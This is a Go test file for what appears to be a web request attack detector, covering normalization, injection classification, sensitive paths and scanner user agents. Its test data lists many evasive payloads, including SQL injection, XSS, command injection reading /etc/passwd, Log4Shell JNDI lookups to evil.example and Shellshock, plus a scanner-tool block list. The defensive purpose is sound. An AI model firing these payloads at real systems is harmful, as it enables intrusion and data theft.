package attack

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func mustCompile(t testing.TB) *Matcher {
	t.Helper()
	m, err := Compile(Config{Injection: true, Paths: DefaultPaths(), Agents: DefaultAgents()})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestNormalize(t *testing.T) {
	for _, c := range []struct {
		in    string
		query bool
		want  string
	}{
		{"%27%20OR%201%3D1", true, "' or 1=1"},
		{"a+b", true, "a b"},
		{"a+b", false, "a+b"},
		{"%2527", true, "'"},         // double encoded
		{"%252527", true, "'"},       // three times: a proxy, a framework and a library
		{"%25252527", true, "%27"},   // four: no server decodes that far
		{"%u0027%u003C", true, "'<"}, // IIS
		{"un%00ion", true, "union"},  // NUL dropped
		{"a%0d%0ab%09c", true, "a\n\nb c"},
		{"%C0%AE%C0%AE%C0%AF", true, "../"}, // overlong UTF-8
		{"%E0%80%AE", true, "."},
		{"%EF%BC%87%EF%BC%9C", true, "'<"}, // fullwidth
		{"..%E2%88%95", true, "../"},       // division slash
		{"%E2%80%99", true, "'"},           // right single quotation mark
		{"&#60;&#x3C;&#0000060&lt;&LT;&quot;", true, "<<<<<\""},
		{"&amp;", true, "&"},
		{"&unknown;", true, "&unknown;"},
		{`\x3cscript\u003e`, true, "<script>"},
		{`\x5Cu003c`, true, "<"}, // nginx's \x5C is a client's backslash
		{`\x5C\x5C`, true, `\\`},
		{"SeLeCt", true, "select"},
		{"café", true, "café"},                             // other letters are kept
		{"voil%C3%A0", true, "voilà"},                      // a continuation byte 0xA0 is no blank
		{"a%A0b%C2%A0c%E3%80%80d", true, "a b c d"},        // Latin-1, Unicode and ideographic spaces
		{"un%E2%80%8Bion", true, "union"},                  // zero-width space dropped
		{"%F0%9D%90%AE%F0%9D%90%A7%E2%93%98", true, "uni"}, // mathematical bold, circled
		{"%F0%9D%9F%8F", true, "1"},
		{"%zz%4", true, "%zz%4"},
		{"%", true, "%"},
	} {
		var sc Scratch
		got, _ := sc.normalize([]byte(c.in), c.query)
		if string(got) != c.want {
			t.Errorf("normalize(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// Evasions of each class, and the legitimate requests that look closest.
func TestInjectionExamples(t *testing.T) {
	m := mustCompile(t)
	for _, c := range []struct {
		path, query string
		want        Class
	}{
		{"/items", "id=1%27%20or%20%271%27%3D%271", SQL},
		{"/items", "id=1%2527%2520OR%25201%253D1--", SQL},                   // double encoded
		{"/items", "id=1%27/**/oR/**/1%3D1", SQL},                           // comments as spaces
		{"/items", "id=-1%20/*!50000UnIoN*/%20/*!50000SeLeCt*/%201,2", SQL}, // MySQL's executable comments
		{"/items", "id=1%ef%bc%87%20or%201=1--", SQL},                       // a fullwidth quote
		{"/items", "id=un%00ion%20se%00lect%201", SQL},
		{"/items/1%27%20or%20%271%27=%271", "", SQL},   // in the path
		{"/items", "id=1%A0union%A0select%A01,2", SQL}, // MySQL's 0xA0 blank
		{"/items", "id=1e0union%20select%201,2", SQL},  // 1e0union is 1e0 union
		{"/items", "id=1.union%20select%201", SQL},
		{"/items", "id=1%27%20union/*&id=*/select%201--", SQL}, // a name given twice: joined as ASP.NET does
		{"/items", "id=%F0%9D%90%AE%F0%9D%90%A7%F0%9D%90%A2%F0%9D%90%A8%F0%9D%90%A7%20select%201", SQL},
		{"/items", "id=1%27or(1)=(1)--", SQL}, // a condition in parentheses, no blank needed
		{"/items", "id=1%27%20or((%27a%27))=((%27a%27))--", SQL},
		{"/search", "q=it%27s+(really)+good", NoClass},
		{"/items", "id=1", NoClass},
		{"/items", "tag=a&tag=b&tag=c", NoClass},
		{"/search", "q=O%27Reilly+books", NoClass},
		{"/search", "q=select+a+script+for+the+play", NoClass},
		{"/search", "q=select+*+from+users", NoClass},
		{"/tickets", "jql=status+%3D+%22Open%22+AND+assignee+%3D+me", NoClass}, // balanced quotes: a query language
		{"/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", XSS},
		{"/search", "q=%26lt%3Bsvg%2Fonload%3Dalert(1)%26gt%3B", XSS}, // entities
		{"/search", `q=\x22%20onmouseover=\x22alert(1)`, XSS},         // as nginx logs a raw quote
		{"/search", "q=java%09script:alert(1)", XSS},
		{"/search", "q=the+%3Cb%3E+tag", NoClass},
		{"/search", "q=javascript:+the+good+parts", NoClass},
		{"/search", "q=how+to+use+alert()", NoClass},
		{"/ping", "host=127.0.0.1%3Bw%27h%27o%27am%27i", Command},
		{"/ping", "host=127.0.0.1%0acat${IFS}/etc/passwd", Command},
		{"/ping", "host=x%7C%7Cnslookup+evil.example", Command},
		{"/ping", "host=%60id%60", Command},
		{"/ping", "host=x%26w^h^o^a^m^i", Command}, // cmd.exe's carets
		{"/ping", "host=x%0a+%0a+%0a+id", Command}, // newlines and blanks: the last newline is the separator
		{"/ping", "host=$(%0a+id)", Command},
		{"/ping", "host=x|%0a+id", Command},
		{"/ping", "host=%60%0a+cat+/etc/passwd%60", Command},
		{"/search", "q=%27-(alert)(1)-%27", XSS},
		{"/search", "q=%22;alert?.(1)//", XSS},
		{"/search", "q=dog+%7C+cat", NoClass},
		{"/search", "q=salt%3B+pepper", NoClass},
		{"/items", "fields=name%7Cid", NoClass}, // a field list
		{"/files", "name=..%2f..%2f..%2fetc%2fpasswd", Traversal},
		{"/files", "name=....//....//etc/passwd", Traversal},
		{"/files", "name=..%c0%af..%c0%afetc%c0%afpasswd", Traversal},
		{"/files/..%5c..%5cwindows%5cwin.ini", "", Traversal},
		{"/files", "name=php://filter/resource=index.php", Traversal},
		{"/files", "name=../img/logo.png", NoClass}, // one step to the application's own file
		{"/render", "tpl=%7B%7B7*7%7D%7D", Template},
		{"/render", "tpl=%24%7Bjndi:ldap://evil.example/a%7D", Template},
		{"/render", "tpl=$%7B$%7B::-j%7Dndi:ldap://x%7D", Template},
		{"/users/%7B%7BuserId%7D%7D/orders", "", NoClass}, // a placeholder a client left
		{"/render", "tpl=%24%7Buser.name%7D", NoClass},
	} {
		var sc Scratch
		f := m.Injection([]byte(c.path), []byte(c.query), nil, &sc)
		if f.Class != c.want {
			t.Errorf("%s?%s: %q (sample %q), want %q", c.path, c.query, f.Class, f.Sample, c.want)
		}
		if f.Class != NoClass && len(f.Sample) == 0 {
			t.Errorf("%s?%s: no sample", c.path, c.query)
		}
	}
}

// Payloads in a user agent (Log4Shell's usual place) count; the user
// agents of browsers, libraries and bots do not.
func TestInjectionInUserAgent(t *testing.T) {
	m := mustCompile(t)
	var sc Scratch
	for ua, want := range map[string]Class{
		"${jndi:ldap://evil.example/a}":                      Template,
		"Mozilla/5.0 ${${lower:j}ndi:ldap://evil.example/a}": Template,
		"' or '1'='1":                               SQL,
		"<script>alert(1)</script>":                 XSS,
		"() { :; }; /bin/bash -c 'cat /etc/passwd'": Command, // Shellshock
		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0":   NoClass,
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": NoClass,
		"Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1":                      NoClass,
	} {
		if got := m.Injection([]byte("/"), nil, []byte(ua), &sc).Class; got != want {
			t.Errorf("user agent %q: %q, want %q", ua, got, want)
		}
	}
}

func TestInjectionOff(t *testing.T) {
	m, err := Compile(Config{})
	if err != nil {
		t.Fatal(err)
	}
	var sc Scratch
	if f := m.Injection([]byte("/x"), []byte("id=1'+or+'1'='1"), nil, &sc); f.Class != NoClass {
		t.Fatalf("injection off found %v", f.Class)
	}
	if _, _, ok := m.SensitivePath([]byte("/.env"), &sc); ok {
		t.Fatal("no paths, yet /.env matched")
	}
	if _, ok := m.ScannerAgent([]byte("sqlmap/1.7"), &sc); ok {
		t.Fatal("no agents, yet sqlmap matched")
	}
	var nilM *Matcher
	if nilM.Injection([]byte("/x"), []byte("id='"), nil, &sc).Class != NoClass || nilM.InjectionOn() || nilM.AgentsOn() {
		t.Fatal("a nil Matcher matched")
	}
}

func TestSensitivePath(t *testing.T) {
	m, err := Compile(Config{Paths: append(DefaultPaths(), "/internal/debug", "*.pem", "secret*", "Thumbs.db")})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		path, pattern, resolved string
	}{
		{"/.env", ".*", "/.env"},
		{"/static/..%2f.%2e/%2E%65nv", ".*", "/.env"},
		{"//app///.git/config", ".*", "/app/.git/config"},
		{"/a/b/../../../../.htpasswd", ".*", "/.htpasswd"},
		{"/..;/WEB-INF/web.xml", "web-inf", "/web-inf/web.xml"},
		{"/files/report.pdf.bak", "*.bak", "/files/report.pdf.bak"},
		{"/WP-LOGIN.PHP", "wp-login.php", "/wp-login.php"},
		{"/wp-admin", "/wp-admin", "/wp-admin"},
		{"/wp-admin/install.php", "/wp-admin", "/wp-admin/install.php"},
		{"/internal/debug/vars", "/internal/debug", "/internal/debug/vars"},
		{"/keys/server.pem", "*.pem", "/keys/server.pem"},
		{"/secret-sauce", "secret*", "/secret-sauce"},
		{"/x/thumbs.db", "Thumbs.db", "/x/thumbs.db"},
		{"/.well-known/openid-configuration", "", "/.well-known/openid-configuration"},
		{"/wp-administrator", "", "/wp-administrator"},
		{"/api/v1/items/42", "", "/api/v1/items/42"},
		{"/internal/debugger", "", "/internal/debugger"},
		{"/api/config", "", "/api/config"},
	} {
		var sc Scratch
		pattern, resolved, ok := m.SensitivePath([]byte(c.path), &sc)
		if ok != (c.pattern != "") || pattern != c.pattern || string(resolved) != c.resolved {
			t.Errorf("SensitivePath(%q) = %q, %q, %v; want %q, %q", c.path, pattern, resolved, ok, c.pattern, c.resolved)
		}
	}
}

func TestScannerAgent(t *testing.T) {
	m := mustCompile(t)
	var sc Scratch
	for ua, want := range map[string]string{
		"sqlmap/1.7.2#stable (https://sqlmap.org)":                                        "sqlmap",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)": "nmap",
		"MOZILLA/5.0 (NIKTO/2.1.6)":                                                       "nikto",
		"Mozilla/4.0 (Hydra)":                                                             "(hydra)",
		"Mozilla/5.0 (compatible; unmapped-device/2.0)":                                   "",
		"Mozilla/5.0 (compatible; Nmapper/1.0)":                                           "",
		"curl/8.5.0":                                                                      "",
		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox":                               "",
		"": "",
	} {
		got, ok := m.ScannerAgent([]byte(ua), &sc)
		if got != want || ok != (want != "") {
			t.Errorf("ScannerAgent(%q) = %q, %v; want %q", ua, got, ok, want)
		}
	}
	// beyond MaxAgent bytes nothing is read
	long := strings.Repeat("a", MaxAgent) + " sqlmap"
	if _, ok := m.ScannerAgent([]byte(long), &sc); ok {
		t.Error("a pattern past MaxAgent bytes matched")
	}
	// the cache answers as the automaton does, and forgets a matcher
	// replaced (a policy reload)
	ua := []byte("Mozilla/5.0 (compatible; mytool/1.0)")
	if _, ok := m.ScannerAgent(ua, &sc); ok {
		t.Fatal("mytool matched the defaults")
	}
	if _, ok := m.ScannerAgent(ua, &sc); ok {
		t.Fatal("mytool matched the defaults from the cache")
	}
	m2, err := Compile(Config{Agents: []string{"mytool"}})
	if err != nil {
		t.Fatal(err)
	}
	if p, ok := m2.ScannerAgent(ua, &sc); !ok || p != "mytool" {
		t.Fatalf("the new matcher's pattern: %q, %v (a stale cache?)", p, ok)
	}
	ua[len(ua)-2] = '1' // same length, other bytes: a slot holds the whole user agent
	if p, ok := m2.ScannerAgent(ua, &sc); !ok || p != "mytool" {
		t.Fatalf("%q: %q, %v", ua, p, ok)
	}
	if _, ok := m2.ScannerAgent([]byte("curl/8.5.0"), nil); ok {
		t.Fatal("curl matched without a cache")
	}
}

func TestCompileRefuses(t *testing.T) {
	for _, c := range []struct {
		cfg  Config
		want string
	}{
		{Config{Paths: []string{"*"}}, "every path"},
		{Config{Paths: []string{"/"}}, "every path"},
		{Config{Paths: []string{"a*b"}}, "one '*'"},
		{Config{Paths: []string{"*a*"}}, "one '*'"},
		{Config{Paths: []string{"/a/*.bak"}}, "no '*'"},
		{Config{Paths: []string{"a/b"}}, "no '/'"},
		{Config{Paths: []string{"/a/../b"}}, ".. segment"},
		{Config{Paths: []string{"bad name"}}, "printable ASCII"},
		{Config{Paths: []string{""}}, "empty"},
		{Config{Agents: []string{"ab"}}, "shorter than 3"},
		{Config{Agents: []string{strings.Repeat("x", MaxAgentLength+1)}}, "longer than"},
		{Config{Agents: []string{"tab\there"}}, "printable ASCII"},
		{Config{Agents: make([]string, MaxAgents+1)}, "at most"},
	} {
		if _, err := Compile(c.cfg); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("Compile(%+v): %v; want an error with %q", c.cfg, err, c.want)
		}
	}
}

func TestSanitize(t *testing.T) {
	for in, want := range map[string]string{
		"plain":                 "plain",
		"a\x00b\x1b[31mc\x7f":   `a\x00b\x1b[31mc\x7f`,
		"tab\there\nnl":         `tab\x09here\x0anl`,
		"back\\slash":           `back\\slash`,
		"café ☕":                "café ☕",
		"rtl\u202eoverride":     `rtl\u202eoverride`,
		"zero\u200bwidth":       `zero\u200bwidth`,
		"bad\xff\xfeutf8":       `bad\xff\xfeutf8`,
		strings.Repeat("x", 40): strings.Repeat("x", 32) + "...",
	} {
		if got := SanitizeString(in, 32); got != want {
			t.Errorf("Sanitize(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzInjection(f *testing.F) {
	for _, s := range []string{"id=1'+or+'1'='1", "q=%3Cscript%3E", "a=%252e%252e%252f", "x={{7*7}}", "c=;id", "&&&", "%", "%u", "&#", `\x5C\x5C\x5C`} {
		f.Add([]byte("/p"), []byte(s), []byte("curl/8"))
	}
	m := mustCompile(f)
	f.Fuzz(func(t *testing.T, path, query, ua []byte) {
		var sc Scratch
		fi := m.Injection(path, query, ua, &sc)
		if fi.Class > Template || len(fi.Sample) > maxSample {
			t.Fatalf("finding %v with a %d-byte sample", fi.Class, len(fi.Sample))
		}
		if fi.Class != NoClass && len(fi.Sample) == 0 {
			t.Fatal("a finding without a sample")
		}
		_, resolved, _ := m.SensitivePath(path, &sc)
		if len(path) > 0 && (len(resolved) == 0 || resolved[0] != '/') {
			t.Fatalf("resolved %q from %q", resolved, path)
		}
		m.ScannerAgent(ua, &sc)
		for _, b := range [][]byte{fi.Sample, resolved, query} {
			s := Sanitize(b, 96)
			if len(s) > 96+6+3 || !utf8.ValidString(s) {
				t.Fatalf("sanitised %q to %q", b, s)
			}
			for _, r := range s {
				if r < 0x20 || r == 0x7f || r >= 0x80 && !unicode.IsPrint(r) {
					t.Fatalf("sanitised %q to %q: %U left", b, s, r)
				}
			}
		}
	})
}
